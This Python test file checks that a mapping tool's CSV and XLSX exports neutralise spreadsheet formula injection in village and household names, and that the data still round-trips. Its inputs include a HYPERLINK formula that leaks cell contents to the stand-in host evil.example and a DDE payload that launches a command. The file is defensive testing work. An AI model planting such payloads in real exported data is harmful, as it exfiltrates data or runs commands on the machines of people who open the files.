"""Names and ids from the inputs cannot run as formulas when a table is opened in a
spreadsheet, and hazardmap reads its own tables back as they were."""

from __future__ import annotations

import io
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely
from openpyxl import load_workbook

from hazardmap.io.previous import read_previous
from hazardmap.model.changes import change_columns
from hazardmap.outputs.tables import (
    csv_text,
    write_changes,
    write_csv,
    write_households,
    write_priorities,
    write_villages,
    write_xlsx,
)
from hazardmap.spreadsheet import FORMULA_TRIGGERS, neutralise_formulas, restore_formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
CODES = ["=1+1", "+86", "-3", "@SUM(A1)", "\tx", "\ry", "007", "plain"]
NAMES = [HYPERLINK, DDE, "-3", "@x", "\t村", "\r村", "'quoted", "甲村"]


def test_every_trigger_is_neutralised_and_numbers_stay_numbers() -> None:
    triggered = [f"{c}x" for c in FORMULA_TRIGGERS]
    frame = pd.DataFrame(
        {
            "name": pd.Series([*triggered, "plain", "'=kept as is", None], dtype=object),
            "count": [-3, 0, 1, 2, 3, 4, 5, 6, 7],
            "value": [-0.5, -1.0, np.nan, 0.0, 1.5, 2.0, -3.0, 4.0, 5.0],
            "text": pd.array(["-3", "+1", "=x", "@", "a", "b", "c", "d", None], dtype="string"),
            "town": ["-3", "3", "=镇", "镇", "", "b", "c", "d", None],  # pandas' default for text
            "kind": pd.Categorical(["=a", "b", "=a", "b", "b", "b", "b", "b", "b"]),
            "mixed": [-3, "-3", 1.5, "=A1", None, "ok", -0.5, "x", "y"],
        }
    )
    original = frame.copy(deep=True)
    safe = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, original)  # the caller's frame is left alone
    assert safe["name"].tolist() == [f"'{t}" for t in triggered] + ["plain", "'=kept as is", None]
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    pd.testing.assert_series_equal(safe["value"], frame["value"])
    assert safe["text"].tolist()[:5] == ["'-3", "'+1", "'=x", "'@", "a"]
    assert safe["text"].dtype == frame["text"].dtype and safe["text"].isna().iloc[8]
    assert safe["town"].tolist()[:5] == ["'-3", "3", "'=镇", "镇", ""]
    assert safe["town"].dtype == frame["town"].dtype and safe["town"].isna().iloc[8]
    assert safe["kind"].tolist()[:2] == ["'=a", "b"]
    assert safe["mixed"].tolist()[:4] == [-3, "'-3", 1.5, "'=A1"]
    assert safe["mixed"].iloc[4] is None and safe["mixed"].iloc[6] == -0.5
    restored = restore_formulas(safe)
    pd.testing.assert_frame_equal(
        restored.drop(index=7, columns="kind"), original.drop(index=7, columns="kind")
    )
    assert restored["kind"].tolist() == original["kind"].tolist()
    # the one text that does not come back: written as it was, it reads as if guarded
    assert restored.at[7, "name"] == "=kept as is"


def villages_table() -> gpd.GeoDataFrame:
    n = len(CODES)
    return gpd.GeoDataFrame(
        {
            "village_code": CODES,
            "name": NAMES,
            "township": ["-镇", "=镇", "+镇", "@镇", "镇", "镇", "镇", "镇"],
            "risk_class": np.arange(n) % 5,
            "expected_returns": np.linspace(-0.5, 0.5, n),
        },
        geometry=[shapely.box(i, 0, i + 1, 1) for i in range(n)],
        crs="EPSG:4326",
    )


def test_villages_csv_is_safe_and_reads_back_as_it_was(tmp_path: Path) -> None:
    villages = villages_table()
    write_villages(villages, tmp_path)
    text = (tmp_path / "villages.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'=cmd|" in text and "'@SUM(A1)" in text
    assert ",-0.5\n" in text  # numbers are left as numbers
    previous = read_previous(tmp_path)
    assert previous is not None
    assert previous["village_code"].tolist() == CODES
    assert previous["name"].tolist() == NAMES
    assert previous["township"].tolist() == villages["township"].tolist()
    np.testing.assert_array_equal(previous["expected_returns"], villages["expected_returns"])


def test_every_table_written_is_safe(tmp_path: Path) -> None:
    write_households(pd.DataFrame({"household_id": ["=1+1", "h2"], "risk": [-0.1, 0.2]}), tmp_path)
    write_priorities(pd.DataFrame({"name": ["@x"], "cost": [-5]}), tmp_path)
    changes = pd.DataFrame({column: [np.nan] for column in change_columns(("slope",))})
    changes[["village_code", "name", "status"]] = [["-1", DDE, "new"]]
    write_changes(changes, change_columns(("slope",)), tmp_path)
    households = (tmp_path / "households.csv").read_text(encoding="utf-8-sig")
    assert "'=1+1,-0.1" in households
    assert "'@x,-5" in (tmp_path / "priorities.csv").read_text(encoding="utf-8-sig")
    changed = (tmp_path / "changes.csv").read_text(encoding="utf-8-sig")
    assert "'-1,'=cmd|" in changed


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"name": ["=1+1", HYPERLINK, "甲村"], "value": [-0.5, np.nan, 2.0], "n": [1, 2, 3]}
    )
    path = tmp_path / "leads.xlsx"
    write_xlsx(frame, path, sheet="leads")
    workbook = load_workbook(path)
    sheet = workbook["leads"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["name", "value", "n"]
    first = rows[1][0]
    assert first.data_type == "s" and first.value == "=1+1"
    assert rows[2][0].data_type == "s" and rows[2][0].value == HYPERLINK
    assert [c.value for c in rows[1][1:]] == [-0.5, 1]
    assert rows[2][1].value is None
    assert rows[3][0].value == "甲村" and rows[3][1].value == 2.0


def pandas_csv(frame: pd.DataFrame) -> str:
    buffer = io.StringIO()
    frame.to_csv(buffer, index=False, lineterminator="\r\n")
    return buffer.getvalue()


def test_csv_text_is_what_pandas_writes(tmp_path: Path) -> None:
    """The column-at-a-time writer gives pandas' bytes: floats as their shortest repr,
    missing values empty, text quoted (quotes doubled) where it holds a comma, a quote or
    a line break, headers alike."""
    floats = [0.1, -0.0, 1e16, 1e-5, 9999999999999998.0, 5e-324, np.inf, -np.inf, np.nan]
    n = len(floats)
    texts = ["a,b", 'say "hi"', "two\nlines", "cr\r", "", "甲村", "'=x", " pad ", None]
    frame = pd.DataFrame(
        {
            "float": floats,
            "int8": np.arange(n, dtype=np.int8) - 4,
            "uint64": np.full(n, 2**64 - 1, dtype=np.uint64),
            "bool": np.arange(n) % 2 == 0,
            "str": pd.Series(texts, dtype="str"),
            "string": pd.Series(texts, dtype="string"),
            'quoted, "header"': pd.Series(texts, dtype=object),
            "empty": pd.Series([None] * n, dtype=object),
        }
    )
    assert csv_text(frame) == pandas_csv(frame)
    assert csv_text(frame.iloc[:0]) == pandas_csv(frame.iloc[:0])
    write_csv(frame, tmp_path / "t.csv")
    expected = "\ufeff" + pandas_csv(neutralise_formulas(frame))
    assert (tmp_path / "t.csv").read_bytes() == expected.encode("utf-8")


def test_the_guard_reads_only_text_cells() -> None:
    """Columns without text (None, numbers, bytes as objects) and repeated index labels."""
    frame = pd.DataFrame(
        {
            "none": pd.Series([None, None, None], dtype=object),
            "numbers": pd.Series([-1, 2.5, -3], dtype=object),
            "bytes": pd.Series([b"=x", "=y", None], dtype=object),
            "text": ["=a", "b", "-c"],
        }
    ).set_axis([0, 0, 1])
    safe = neutralise_formulas(frame)
    assert safe["none"].tolist() == [None, None, None]
    assert safe["numbers"].tolist() == [-1, 2.5, -3]
    assert safe["bytes"].tolist() == [b"=x", "'=y", None]
    assert safe["text"].tolist() == ["'=a", "b", "'-c"]
    assert safe.index.tolist() == [0, 0, 1]
    pd.testing.assert_frame_equal(restore_formulas(safe), frame)


def test_other_columns_are_left_to_pandas(tmp_path: Path) -> None:
    mixed = pd.DataFrame({"a": [1, "-2", 1.5, None], "b": [1.0, 2.0, 3.0, 4.0]})
    others = {
        "mixed objects": mixed,
        "float32": mixed.assign(a=np.float32(0.1)),
        "categorical": mixed.assign(a=pd.Categorical(["x", "y", "x", None])),
        "nullable integers": mixed.assign(a=pd.array([1, None, 3, 4], dtype="Int64")),
        "one column": mixed[["b"]],
    }
    for name, frame in others.items():
        assert csv_text(frame) is None, name
        write_csv(frame, tmp_path / "t.csv")
        written = (tmp_path / "t.csv").read_bytes()
        expected = "\ufeff" + pandas_csv(neutralise_formulas(frame))
        assert written == expected.encode("utf-8"), name
